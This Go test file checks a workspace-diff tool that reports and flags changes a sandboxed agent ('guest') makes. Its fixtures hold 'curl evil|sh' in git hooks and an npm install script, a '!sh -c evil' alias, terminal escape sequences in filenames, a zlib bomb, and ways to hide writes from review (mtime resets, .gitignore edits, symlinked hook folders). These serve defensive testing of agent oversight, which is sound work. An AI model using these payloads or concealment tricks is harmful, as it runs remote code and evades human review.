package wsdiff

import (
	"bytes"
	"compress/zlib"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	git "github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"
	"golang.org/x/sys/unix"
)

// gitRepo makes a repository at root with README.md committed.
func gitRepo(t *testing.T, root string) *git.Repository {
	t.Helper()
	repo, err := git.PlainInit(root, false)
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "README.md", "line 1\nline 2\n", 0o644)
	commit(t, repo, "README.md")
	return repo
}

func commit(t *testing.T, repo *git.Repository, files ...string) {
	t.Helper()
	wt, _ := repo.Worktree()
	for _, f := range files {
		if _, err := wt.Add(f); err != nil {
			t.Fatal(err)
		}
	}
	sig := &object.Signature{Name: "t", Email: "t@example.invalid", When: time.Now()}
	if _, err := wt.Commit("c", &git.CommitOptions{Author: sig}); err != nil {
		t.Fatal(err)
	}
}

// within runs f and fails the test when it does not return in time.
func within(t *testing.T, d time.Duration, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatal("hung")
	}
}

func patchOf(t *testing.T, base *Snapshot, files string) string {
	t.Helper()
	_, cs, err := Since(base)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	within(t, 10*time.Second, func() {
		if err := Patch(&out, base, files, cs); err != nil {
			t.Error(err)
		}
	})
	return out.String()
}

// FIFOs at .git/HEAD, a ref or an object never block the baseline or
// --patch.
func TestPatchGitFIFOs(t *testing.T) {
	for _, at := range []string{"HEAD", "refs/heads/master", "object"} {
		t.Run(at, func(t *testing.T) {
			root := t.TempDir()
			repo := gitRepo(t, root)
			files := filepath.Join(t.TempDir(), "files")
			var base *Snapshot
			fifo := func(rel string) {
				p := filepath.Join(root, ".git", filepath.FromSlash(rel))
				os.Remove(p)
				if err := unix.Mkfifo(p, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if at == "HEAD" {
				fifo("HEAD")
			}
			within(t, 10*time.Second, func() { base = take(t, root, Options{FilesDir: files, Baseline: true}) })
			switch at {
			case "refs/heads/master":
				fifo("refs/heads/master")
				fifo("HEAD")
			case "object":
				ref, _ := repo.Head()
				h := ref.Hash().String()
				fifo("objects/" + h[:2] + "/" + h[2:])
			}
			write(t, root, "README.md", "line 1\nline two\n", 0o644)
			got := patchOf(t, base, files)
			if !strings.Contains(got, "README.md") {
				t.Errorf("patch %q", got)
			}
			if at == "refs/heads/master" && !strings.Contains(got, "+line two") {
				t.Errorf("a FIFO ref hid the base commit: %q", got)
			}
		})
	}
}

// A sparse 4 TiB file is not read into memory.
func TestPatchHugeSparseFile(t *testing.T) {
	root := t.TempDir()
	base := take(t, root, Options{})
	p := filepath.Join(root, "huge.bin")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	if err := os.Truncate(p, 4<<40); err != nil {
		t.Skip("no sparse files here:", err)
	}
	got := patchOf(t, base, "")
	if !strings.Contains(got, "huge.bin (too large to show") {
		t.Errorf("patch %q", got)
	}
}

// readRooted opens what it reads without blocking and reads only a
// regular file.
func TestReadRootedFIFO(t *testing.T) {
	root := t.TempDir()
	unix.Mkfifo(filepath.Join(root, "p"), 0o644)
	r, _ := os.OpenRoot(root)
	defer r.Close()
	within(t, 5*time.Second, func() {
		if _, err := readRooted(r, "p"); err == nil {
			t.Error("read a FIFO")
		}
	})
}

func unreadAt(cs []Change) map[string]Change {
	m := map[string]Change{}
	for _, c := range cs {
		if c.Change == Unreadable {
			m[c.Path] = c
		}
	}
	return m
}

// A tree deeper than maxDepth is cut and reported, risky.
func TestWalkTooDeep(t *testing.T) {
	root := t.TempDir()
	base := take(t, root, Options{})
	p := root
	for i := 0; i < maxDepth+10; i++ {
		p = filepath.Join(p, "d")
	}
	if err := os.MkdirAll(p, 0o755); err != nil {
		t.Fatal(err)
	}
	_, cs, err := Since(base)
	if err != nil {
		t.Fatal(err)
	}
	u := unreadAt(cs)
	if len(u) != 1 {
		t.Fatalf("unread %+v", u)
	}
	for _, c := range u {
		if !c.Risky || !strings.Contains(c.Reason, "too deep") {
			t.Errorf("%+v", c)
		}
	}
}

// A folder the walk cannot open (EACCES: a 0311 .claude over 9p as
// non-root; EMFILE: out of fds) is reported, not silently empty.
func TestWalkUnreadableFolder(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".claude/settings.json", "{}", 0o644)
	write(t, root, "node_modules/x/index.js", "", 0o644)
	write(t, root, ".gitignore", "node_modules/\n", 0o644)
	base := take(t, root, Options{})
	defer func(f func(int, string, int, uint32) (int, error)) { openDirAt = f }(openDirAt)
	openDirAt = func(fd int, name string, flags int, mode uint32) (int, error) {
		switch name {
		case ".claude":
			return -1, syscall.EACCES
		case "x":
			return -1, syscall.EMFILE
		}
		return unix.Openat(fd, name, flags, mode)
	}
	_, cs, err := Since(base)
	if err != nil {
		t.Fatal(err)
	}
	u := unreadAt(cs)
	if c, ok := u[".claude"]; !ok || !c.Risky {
		t.Errorf(".claude not reported: %+v", cs)
	}
	if c, ok := u["node_modules/x"]; !ok || !c.Risky || !strings.Contains(c.Reason, "too many open files") {
		t.Errorf("fd exhaustion not reported: %+v", cs)
	}
}

func TestQuotePath(t *testing.T) {
	for in, want := range map[string]string{
		"src/main.go":        "src/main.go",
		"naïve/日本.txt":       "naïve/日本.txt",
		"a\x1b]0;pwned\x07b": `"a\x1b]0;pwned\ab"`,
		"bad\xffutf8":        `"bad\xffutf8"`,
		"csi\u009b31m":       `"csi\u009b31m"`,
		"rtl\u202eexe.txt":   `"rtl\u202eexe.txt"`,
		"new\nline":          `"new\nline"`,
		`q"uote`:             `"q\"uote"`,
	} {
		if got := QuotePath(in); got != want {
			t.Errorf("QuotePath(%q) = %s, want %s", in, got, want)
		}
	}
}

// Paths and link targets in --patch are quoted: no escape reaches the
// terminal.
func TestPatchQuotesPaths(t *testing.T) {
	root := t.TempDir()
	base := take(t, root, Options{})
	write(t, root, "evil\x1b[2Jname", "x\n", 0o644)
	os.Symlink("\x1b]52;c;Y3VybA==\x07", filepath.Join(root, "l\x1bnk"))
	got := patchOf(t, base, "")
	if strings.Contains(got, "\x1b") {
		t.Errorf("raw escape in patch: %q", got)
	}
	if !strings.Contains(got, `"b/evil\x1b[2Jname"`) {
		t.Errorf("patch %q", got)
	}
}

// The guest writes a file, sets its mtime back and adds a hard link (nlink
// moves, so "same nlink" cannot gate the ctime check): still modified.
func TestHiddenWriteWithLinkAndMtime(t *testing.T) {
	root := t.TempDir()
	write(t, root, "src/lib.go", "package lib // v1\n", 0o644)
	base := take(t, root, Options{})
	p := filepath.Join(root, "src/lib.go")
	fi, _ := os.Stat(p)
	time.Sleep(20 * time.Millisecond)
	os.WriteFile(p, []byte("package lib // v2\n"), 0o644)
	os.Chtimes(p, fi.ModTime(), fi.ModTime())
	os.Link(p, filepath.Join(root, "other"))
	_, cs, _ := Since(base)
	if c, ok := byPath(cs)["src/lib.go"]; !ok || c.Change != Modified {
		t.Errorf("hidden write not reported: %+v", cs)
	}
	// A write plus a chmod reports both.
	time.Sleep(20 * time.Millisecond)
	base = take(t, root, Options{})
	os.WriteFile(p, []byte("package lib // v3\n"), 0o644)
	os.Chtimes(p, fi.ModTime(), fi.ModTime())
	os.Chmod(p, 0o600)
	_, cs, _ = Since(base)
	if c := byPath(cs)["src/lib.go"]; c.Change != Modified || c.OldMode != "0644" || c.Mode != "0600" {
		t.Errorf("write and chmod = %+v", c)
	}
}

// A file linked from outside the workspace since before the start, then
// written, is risky: the write reached the outside file.
func TestWriteToFileLinkedOutBefore(t *testing.T) {
	base0 := t.TempDir()
	root := filepath.Join(base0, "ws")
	write(t, root, "notes.txt", "a\n", 0o644)
	os.Link(filepath.Join(root, "notes.txt"), filepath.Join(base0, "outside"))
	base := take(t, root, Options{})
	time.Sleep(20 * time.Millisecond)
	os.WriteFile(filepath.Join(root, "notes.txt"), []byte("b\n"), 0o644)
	_, cs, _ := Since(base)
	c := byPath(cs)["notes.txt"]
	if c.Change != Modified || !c.Risky || !strings.Contains(c.Reason, "outside the workspace") {
		t.Errorf("write to linked-out file = %+v", c)
	}
}

// Folders of risky paths swapped for symlinks, changed in kind or added are
// risky; so is a symlink into a risky or summarised path.
func TestFolderSwaps(t *testing.T) {
	base0 := t.TempDir()
	root := filepath.Join(base0, "ws")
	write(t, root, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0o755)
	write(t, root, ".github/CODEOWNERS", "*\n", 0o644)
	write(t, root, ".gitignore", "node_modules/\n", 0o644)
	write(t, root, "node_modules/a/index.js", "", 0o644)
	write(t, root, "src/x.go", "package x\n", 0o644)
	os.MkdirAll(filepath.Join(base0, "evilhooks"), 0o755)
	base := take(t, root, Options{})

	os.RemoveAll(filepath.Join(root, ".git/hooks"))
	os.Symlink(filepath.Join(base0, "evilhooks"), filepath.Join(root, ".git/hooks"))
	os.RemoveAll(filepath.Join(root, ".github"))
	write(t, root, ".github", "now a file", 0o644)
	os.MkdirAll(filepath.Join(root, ".claude"), 0o755)
	os.MkdirAll(filepath.Join(root, ".husky"), 0o755)
	os.Symlink("../.git/hooks/pre-push", filepath.Join(root, "src/helper"))
	os.Symlink("../node_modules/a/index.js", filepath.Join(root, "src/idx"))
	_, cs, _ := Since(base)
	got := byPath(cs)
	for _, p := range []string{".git/hooks", ".github", ".claude", ".husky", "src/helper", "src/idx"} {
		if c, ok := got[p]; !ok || !c.Risky {
			t.Errorf("%s = %+v, want risky", p, c)
		}
	}
	if c := got["src/x.go"]; c.Path != "" {
		t.Errorf("unchanged file reported: %+v", c)
	}
}

// Rows for worktree config, commondir, ignore files; paths named by the
// baseline .git/config (core.hooksPath, include.path) are risky, and
// never summarised.
func TestConfigPathsRisky(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".git/config", "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../tools/git.inc\n[includeIf \"onbranch:main\"]\n\tpath = /etc/gitconfig.d/x\n", 0o644)
	write(t, root, ".gitignore", ".githooks/\n", 0o644)
	write(t, root, ".githooks/README", "hooks\n", 0o644)
	write(t, root, "tools/git.inc", "", 0o644)
	base := take(t, root, Options{Baseline: true})
	if got := base.Trees[0].Extra; len(got) != 2 || got[0] != ".githooks" || got[1] != "tools/git.inc" {
		t.Errorf("extra = %q", got)
	}
	// The guest switches hooksPath away in .git/config (risky itself);
	// the baseline's paths still count.
	write(t, root, ".git/config", "[core]\n", 0o644)
	write(t, root, ".githooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n", 0o755)
	write(t, root, "tools/git.inc", "[alias]\n\tst = !sh -c evil\n", 0o644)
	write(t, root, ".git/info/exclude", "src/\n", 0o644)
	write(t, root, ".gitignore", ".githooks/\nsrc/\n", 0o644)
	write(t, root, ".git/config.worktree", "[core]\n", 0o644)
	write(t, root, ".git/commondir", "../../elsewhere\n", 0o644)
	_, cs, _ := Since(base)
	got := byPath(cs)
	for _, p := range []string{".git/config", ".githooks/pre-commit", "tools/git.inc", ".git/info/exclude", ".gitignore", ".git/config.worktree", ".git/commondir"} {
		if c, ok := got[p]; !ok || !c.Risky {
			t.Errorf("%s = %+v, want risky", p, c)
		}
	}
}

// A later start takes ignore rules from the create snapshot: a .gitignore
// the guest edited in an earlier session hides nothing. Risky names inside
// ignored folders are listed one by one.
func TestRecordIgnoreFromCreate(t *testing.T) {
	root := t.TempDir()
	write(t, root, ".gitignore", "node_modules/\n", 0o644)
	write(t, root, "src/a.go", "package a\n", 0o644)
	write(t, root, "node_modules/dep/package.json", "{}", 0o644)
	write(t, root, "node_modules/dep/index.js", "", 0o644)
	dir := filepath.Join(t.TempDir(), "wsdiff")
	if _, err := Record(dir, []string{root}); err != nil {
		t.Fatal(err)
	}
	// Session 1: the guest ignores src/.
	write(t, root, ".gitignore", "node_modules/\nsrc/\n", 0o644)
	// Session 2 starts.
	start, err := Record(dir, []string{root})
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	write(t, root, "src/a.go", "package a // evil\n", 0o644)
	write(t, root, "node_modules/dep/package.json", `{"scripts":{"install":"curl evil|sh"}}`, 0o644)
	write(t, root, "node_modules/dep/index.js", "x", 0o644)
	_, cs, _ := Since(start)
	got := byPath(cs)
	if c, ok := got["src/a.go"]; !ok || c.Change != Modified {
		t.Errorf("src/a.go hidden by the guest's .gitignore: %+v", cs)
	}
	if c, ok := got["node_modules/dep/package.json"]; !ok || !c.Risky {
		t.Errorf("package.json inside an ignored folder: %+v", cs)
	}
	if c, ok := got["node_modules"]; !ok || c.Kind != "summary" {
		t.Errorf("node_modules summary: %+v", cs)
	}
}

// --patch diffs tracked files against the commit HEAD named at start, not
// against a commit the agent made since.
func TestPatchAgainstStartCommit(t *testing.T) {
	root := t.TempDir()
	repo := gitRepo(t, root)
	base := take(t, root, Options{Baseline: true})
	write(t, root, "README.md", "line 1\nline two\n", 0o644)
	commit(t, repo, "README.md")
	got := patchOf(t, base, "")
	if !strings.Contains(got, "-line 2") || !strings.Contains(got, "+line two") {
		t.Errorf("patch against the agent's commit:\n%s", got)
	}
}

// A hook written after the summary (a guest job while the VM idles) is not
// absorbed silently into the next start's baseline: Unreviewed lists it,
// and not what the summary already showed.
func TestUnreviewedAfterSummary(t *testing.T) {
	root := t.TempDir()
	write(t, root, "README.md", "a\n", 0o644)
	dir := filepath.Join(t.TempDir(), "wsdiff")
	start, err := Record(dir, []string{root})
	if err != nil {
		t.Fatal(err)
	}
	write(t, root, "Makefile", "all:\n", 0o644) // shown by the summary
	now, _, err := Since(start)
	if err != nil {
		t.Fatal(err)
	}
	if err := MarkReviewed(dir, now); err != nil {
		t.Fatal(err)
	}
	write(t, root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n", 0o755) // after it
	if _, err := Record(dir, []string{root}); err != nil {
		t.Fatal(err)
	}
	cs, err := Unreviewed(dir)
	if err != nil {
		t.Fatal(err)
	}
	got := byPath(cs)
	if c, ok := got[".git/hooks/pre-commit"]; !ok || !c.Risky {
		t.Errorf("hook written after the summary: %+v", cs)
	}
	if _, ok := got["Makefile"]; ok {
		t.Errorf("reviewed change listed again: %+v", cs)
	}
	// No summary printed in the session before: all of it is unreviewed.
	write(t, root, "package.json", "{}", 0o644)
	if _, err := Record(dir, []string{root}); err != nil {
		t.Fatal(err)
	}
	cs, _ = Unreviewed(dir)
	if c, ok := byPath(cs)["package.json"]; !ok || !c.Risky || len(cs) != 1 {
		t.Errorf("unreviewed = %+v", cs)
	}
}

// An ignored folder that holds files tracked in git is listed, not
// summarised, in the baseline and the walks compared with it.
func TestTrackedFolderNotSummarised(t *testing.T) {
	root := t.TempDir()
	repo := gitRepo(t, root)
	write(t, root, "vendor/lib/lib.go", "package lib\n", 0o644)
	commit(t, repo, "vendor/lib/lib.go")
	write(t, root, ".gitignore", "vendor/\nbuild/\n", 0o644)
	write(t, root, "build/out.o", "o", 0o644)
	dir := filepath.Join(t.TempDir(), "wsdiff")
	if _, err := Record(dir, []string{root}); err != nil {
		t.Fatal(err)
	}
	start, err := Record(dir, []string{root}) // with create.snap as its base
	if err != nil {
		t.Fatal(err)
	}
	if start.Trees[0].Lookup("vendor/lib/lib.go") == nil {
		t.Fatalf("tracked file summarised: %+v", start.Trees[0].Summaries)
	}
	time.Sleep(20 * time.Millisecond)
	write(t, root, "vendor/lib/lib.go", "package lib // evil\n", 0o644)
	_, cs, _ := Since(start)
	got := byPath(cs)
	if c, ok := got["vendor/lib/lib.go"]; !ok || c.Change != Modified || len(cs) != 1 {
		t.Errorf("changes %+v", cs)
	}
}

// A loose object that inflates far past its declared size (a zlib bomb
// the guest wrote over the start commit's tree) is not read into memory.
func TestPatchGitObjectBomb(t *testing.T) {
	root := t.TempDir()
	repo := gitRepo(t, root)
	base := take(t, root, Options{Baseline: true})
	ref, _ := repo.Head()
	c, err := repo.CommitObject(ref.Hash())
	if err != nil {
		t.Fatal(err)
	}
	h := c.TreeHash.String()
	p := filepath.Join(root, ".git/objects", h[:2], h[2:])
	os.Remove(p)
	var buf bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&buf, zlib.BestSpeed)
	zw.Write([]byte("tree 10\x00"))
	zero := make([]byte, 1<<20)
	for i := 0; i < 48; i++ {
		zw.Write(zero)
	}
	zw.Close()
	if err := os.WriteFile(p, buf.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	write(t, root, "README.md", "line 1\nline two\n", 0o644)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	got := patchOf(t, base, "")
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 24<<20 {
		t.Errorf("patch allocated %d MiB", n>>20)
	}
	if !strings.Contains(got, "README.md") {
		t.Errorf("patch %q", got)
	}
}
